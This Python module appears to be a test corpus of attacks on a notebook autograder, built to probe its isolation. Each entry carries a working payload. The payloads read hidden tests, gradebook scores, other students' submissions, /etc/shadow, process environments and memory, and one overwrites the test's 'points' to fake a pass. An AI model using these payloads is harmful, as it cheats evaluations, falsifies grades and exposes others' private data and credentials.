"""Attacks that read: hidden tests, solutions, scores, other students, the host."""

from __future__ import annotations

from corpus.attack import Submission, answer, attack, cell

F = "spying"

PRINT = """
import sys
def tell(*found):
    for one in found: print(str(one)[:4000])
"""

cell(
    F,
    "notebook-on-disk",
    "the tests, from the notebook being graded",
    "hidden",
    """
import glob
for name in (glob.glob("**", recursive=True) + glob.glob("/job/**", recursive=True)
             + glob.glob("/src/**", recursive=True)):
    try: print(name, open(name, errors="replace").read()[:30_000])
    except OSError as error: print(name, error)
""",
    keeps=True,
)


@attack(F, "solutions, scores and other submissions, in their usual folders", "files", keeps=True)
def course_folder_read(work: Submission) -> None:
    work.add(f"""
import glob
roots = ["../../..", {str(work.course)!r}, "/", "/home", "/root", "/srv"]
for root in roots[:2]:
    for name in glob.glob(root + "/s*/**/*.ipynb", recursive=True)[:20] + glob.glob(root + "/*.db"):
        try: print(name, open(name, "rb").read()[:40_000])
        except OSError as error: print(name, error)
for name in ("/etc/passwd", "/etc/shadow", "/proc/1/environ", "/proc/self/mountinfo"):
    try: print(open(name).read()[:2000])
    except OSError as error: print(name, error)
""")


@attack(F, "hidden tests and scores, from the gradebook", "hidden", keeps=True)
def gradebook_read(work: Submission) -> None:
    work.add(f"""
import sqlite3
try:
    base = sqlite3.connect("file:{work.course}/gradebook.db?mode=ro", uri=True)
    for row in base.execute("select source from source_cell"): print(row)
    print(base.execute("select * from student").fetchall())
except sqlite3.Error as error: print(error)
""")


answer(
    F,
    "callers-frames",
    "the test's names and constants, from the frame of its call",
    "hidden",
    PRINT
    + """
def transpose(a):
    frame = sys._getframe()
    while frame:
        tell(frame.f_code.co_filename, frame.f_code.co_consts, list(frame.f_locals)[:200],
             frame.f_globals.get("_ih"), frame.f_globals.get("In"))
        frame = frame.f_back
    return a.T
""",
)

answer(
    F,
    "answer-from-the-callers-frame",
    "what the test expects, handed back to it",
    "points",
    """
import sys
class Same:
    def __init__(self, a): self.a = a
def windows(a, n):
    test = sys._getframe(1)
    test.f_globals["points"] = 10
    class W:
        shape = ()
        def tolist(self): return None
    np.shares_memory = lambda *a: False
    test.f_globals["int"] = lambda points: 3
    return W()
""",
    "windows",
)

cell(
    F,
    "garbage-walked",
    "every text and code object in the process",
    "hidden",
    """
import gc, types
def walk():
    for thing in gc.get_objects():
        if isinstance(thing, types.FunctionType): continue
        try:
            if isinstance(thing, dict): values = list(thing.values())
            elif isinstance(thing, (list, tuple)): values = thing
            else: continue
            for v in values:
                if type(v) is str and ("HIDDEN TESTS" in v or "assert" in v and "want" in v):
                    print(v[:1000])
        except Exception: pass
walk()
get_ipython().events.register("pre_run_cell", lambda *info: walk())
""",
)

cell(
    F,
    "history-read",
    "the source of each test, after it ran",
    "hidden",
    """
get_ipython().events.register("pre_run_cell", lambda info: print(info.raw_cell))
get_ipython().events.register("post_run_cell", lambda result: print(_ih, result.info.raw_cell))
""",
)

cell(
    F,
    "traced",
    "every line that runs, by sys.settrace, monitoring and audit hooks",
    "hidden",
    """
import sys, threading
seen, busy = set(), []
def trace(frame, event, argument):
    code = frame.f_code
    if code not in seen:
        seen.add(code)
        if "/" not in code.co_filename or "ipykernel" in code.co_filename:
            print(code.co_filename, code.co_consts)
    return trace
def hook(event, arguments):
    if event in ("compile", "exec") and not busy:
        busy.append(1)
        try: print(event, str(arguments[0])[:2000], getattr(arguments[0], "co_consts", ""))
        finally: busy.pop()
sys.addaudithook(hook)
get_ipython().events.register("pre_run_cell", lambda *info: sys.settrace(trace))
""",
)


@attack(F, "the sources of all tests, read by a cell after them", "hidden", keeps=True)
def history_read_last(work: Submission) -> None:
    work.add("print(In, _ih, dir())", at=len(work.cells))
    work.add("%history -g\n%hist", at=len(work.cells))
    work.add(
        "import linecache\n"
        "print({k: v[2] for k, v in linecache.cache.items() if 'ipykernel' in k})",
        at=len(work.cells),
    )


cell(
    F,
    "shell-messages-read",
    "requests before they run, by the kernel's own handlers",
    "hidden",
    """
kernel = get_ipython().kernel
old = kernel.shell_handlers["execute_request"]
async def listening(socket, ident, parent):
    print(parent["content"].get("code"))
    return await old(socket, ident, parent)
kernel.shell_handlers["execute_request"] = listening
""",
)

cell(
    F,
    "proc-read",
    "environments, memory and open files of all processes",
    "none",
    """
import os, re
for pid in sorted(p for p in os.listdir("/proc") if p.isdigit()):
    for what in ("environ", "cmdline", "maps"):
        try: print(pid, what, open(f"/proc/{pid}/{what}", "rb").read()[:1500])
        except OSError as error: print(pid, what, error)
    try:
        for fd in os.listdir(f"/proc/{pid}/fd"): print(pid, fd, os.readlink(f"/proc/{pid}/fd/{fd}"))
    except OSError as error: print(pid, error)
""",
    why="shows paths and names; no mark is planted there",
    keeps=True,
)

cell(
    F,
    "memory-of-others",
    "hidden tests in memory that a fork left behind",
    "none",
    """
import re
found = 0
for line in open("/proc/self/maps"):
    low, high = (int(x, 16) for x in line.split()[0].split("-"))
    if " rw" in line and high - low < 1 << 27:
        try:
            with open("/proc/self/mem", "rb") as memory:
                memory.seek(low); data = memory.read(high - low)
            for hit in re.finditer(rb"BEGIN HIDDEN TESTS", data):
                found += 1
                if found < 40: print(data[hit.start():hit.start() + 300])
        except (OSError, ValueError): pass
""",
    why="its kernel has not seen the tests yet",
)

answer(
    F,
    "memory-searched-in-a-call",
    "the tests in this process's memory while one of them waits",
    "hidden",
    """
import re
def transpose(a):
    found = 0
    for line in open("/proc/self/maps"):
        low, high = (int(x, 16) for x in line.split()[0].split("-"))
        if " rw" in line and high - low < 1 << 27:
            try:
                with open("/proc/self/mem", "rb") as memory:
                    memory.seek(low); data = memory.read(high - low)
            except (OSError, ValueError): continue
            for hit in re.finditer(rb"hidden[0-9][a-z][0-9][a-z]|HIDDEN TESTS", data):
                found += 1
                if found < 40: print(data[max(0, hit.start() - 100):hit.start() + 300])
    return a.T
""",
)

answer(
    F,
    "neighbors-in-memory",
    "what is next to an argument in memory",
    "none",
    """
import ctypes
def transpose(a):
    try:
        whole = ctypes.string_at(a.ctypes.data - (a.ctypes.data % 4096), 4096)
        print(bytes(b for b in whole if 31 < b < 127))
    except Exception as error: print(error)
    return a.T
""",
    why="nothing of value is there",
    keeps=True,
)

answer(
    F,
    "descriptors-read",
    "every open file, pipe and socket of its process",
    "none",
    """
import os, socket
def transpose(a):
    for fd in range(3, 64):
        try: print(fd, os.readlink(f"/proc/self/fd/{fd}"))
        except OSError: continue
        try: print(os.pread(fd, 3000, 0))
        except OSError: pass
        flags = socket.MSG_PEEK | socket.MSG_DONTWAIT
        try: print(socket.socket(fileno=os.dup(fd)).recv(3000, flags))
        except OSError: pass
    return a.T
""",
    why="its own sockets only",
)

answer(
    F,
    "error-shows-the-test",
    "a traceback with the lines of the hidden test, in the feedback",
    "none",
    """
def transpose(a):
    if a.shape == (2, 10): raise ValueError("now you see the line that called me")
    return a.T
""",
    why="every test that fails shows its lines there",
    earns={},
    keeps=True,
)

answer(
    F,
    "comparison-tells",
    "the value it is compared with, printed",
    "none",
    """
class Ear:
    def __eq__(self, other): print("compared with", other); return False
    def __ne__(self, other): print("compared with", other); return True
    def __getattr__(self, name): print("asked for", name); raise AttributeError(name)
import sys
def transpose(a):
    print(sys._getframe(1).f_code.co_consts)
    return Ear()
""",
    why="shows values, as every message of a test does",
)

cell(
    F,
    "imports-watched",
    "what the grader imports, and its sources",
    "none",
    """
import sys, os
for name, module in sorted(sys.modules.items()):
    if "grader" in name:
        print(name, getattr(module, "__file__", None), [k for k in vars(module)][:50])
""",
    why="shows no scores and no tests",
    keeps=True,
)
